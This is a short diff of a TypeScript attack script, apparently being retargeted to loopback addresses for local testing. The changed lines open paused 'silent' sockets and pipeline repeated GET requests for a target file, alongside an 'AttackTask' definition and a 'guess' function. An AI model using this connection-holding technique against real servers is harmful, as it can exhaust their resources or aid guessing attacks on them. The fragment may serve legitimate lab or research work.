@@ -19,7 +19,7 @@ export interface AttackTask {
 
 const task: AttackTask = JSON.parse(process.argv[2] ?? '{}');
 const site = new URL(task.origin);
-const agent = new Agent({ keepAlive: true });
+const agent = new Agent({ keepAlive: true, localAddress: '127.0.0.3' });
 const silent = new Set<Socket>();
 const begun = performance.now();
 let sent = 0;
@@ -37,7 +37,7 @@ function guess(index: number): void {
 }
 
 function openSilent(): void {
-  const socket = connect({ port: Number(site.port), host: site.hostname });
+  const socket = connect({ port: Number(site.port), host: '127.0.0.1', localAddress: '127.0.0.2' });
   silent.add(socket);
   socket.pause();
   socket.write(`GET ${task.file} HTTP/1.1\r\nHost: ${site.host}\r\n\r\n`.repeat(10));
